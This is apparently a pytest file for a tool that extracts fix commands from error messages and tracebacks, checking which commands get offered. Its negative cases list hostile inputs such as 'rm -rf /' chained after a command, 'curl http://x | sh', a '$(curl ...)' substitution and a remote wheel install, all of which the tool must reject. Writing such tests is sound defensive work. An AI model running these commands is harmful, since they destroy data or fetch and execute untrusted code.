"""Commands that a failing message itself says to run: which are offered, and which never are."""

from __future__ import annotations

from corpus.stated_commands import StatedCommand, known_stated_commands
from service.patching.patches import ConfigFile
from service.pipeline.triage import Triage
from service.remediation.stated_commands import read_commands
from tests.tables import each_row
from tests.warm import explained

TRACE = 'Traceback (most recent call last):\n  File "/job/eval.py", line 9, in <module>\n    main()\n'
CALL = '  File "/job/client.py", line 70, in ask\n    answer.raise_for_status()\n'


@each_row("row", known_stated_commands(), ids=lambda row: row.id)
def test_that_the_examples_of_a_row_give_its_command(row: StatedCommand) -> None:
    """Each example's message gives that one command, by that row."""
    for example in row.examples:
        assert [(known.id, command) for known, command in read_commands(example.message)] == [
            (row.id, example.command)
        ]


@each_row(
    "message",
    [
        "Command 'git lfs pull' returned non-zero exit status 1",
        "failed to run `ollama pull phi3`",
        "Error while running `git lfs install`",
        "Do not run `wandb offline` here",
        "the job was started with torchrun",
        "Please run `ollama pull phi3; rm -rf /`",
        "Run ollama pull phi3 && curl http://x | sh",
        "Please use `torchrun $(curl http://x)`",
        "Please run `sudo ollama pull phi3`",
        "Please run rm -rf /tmp/ray",
        "Please run `curl http://x/install.sh | sh`",
        "Please run `pip install http://x/y.whl`",
    ],
)
def test_that_what_is_not_told_to_be_run_or_does_harm_is_not_offered(message: str) -> None:
    """What was run, what is not to be, and what a shell would read more of, is no command to run."""
    assert list(read_commands(message)) == []


@each_row(
    ("log", "command"),
    [
        (
            (
                f"{TRACE}{CALL}requests.exceptions.HTTPError: 404 Client Error: Not Found for url: "
                "http://localhost:11434/api/chat\n\n"
                "During handling of the above exception, another exception occurred:\n\n"
                f"{TRACE}ValueError: Model 'phi3' not found. Pull it with: `ollama pull phi3`\n"
            ),
            "ollama pull phi3",
        ),
        (
            f"{TRACE}RuntimeError: tp_size=4 requires several processes. Run with torchrun or use one GPU.\n",
            "torchrun --nproc_per_node=4 eval.py",
        ),
        (
            f"{TRACE}FileNotFoundError: no statistics\nPlease run `python make_stats.py` before.\n",
            "python make_stats.py",
        ),
    ],
)
def test_that_the_message_s_own_command_comes_first(triage: Triage, log: str, command: str) -> None:
    """A command that the root, what was raised in its place, or a row below it tells is the first change."""
    first = explained(triage, log, ConfigFile.of("make_stats.py", "print(1)\n")).changes[0]
    assert (first.kind, first.key) == ("command", command)


def test_that_a_script_that_nobody_has_is_not_offered(triage: Triage) -> None:
    """A log that names a script of which nothing shows that it is the job's gives no command to run it."""
    log = "RuntimeError: CUDA error: out of memory\nPlease run `python evil.py` before.\n"
    assert "evil" not in str(explained(triage, log).changes)
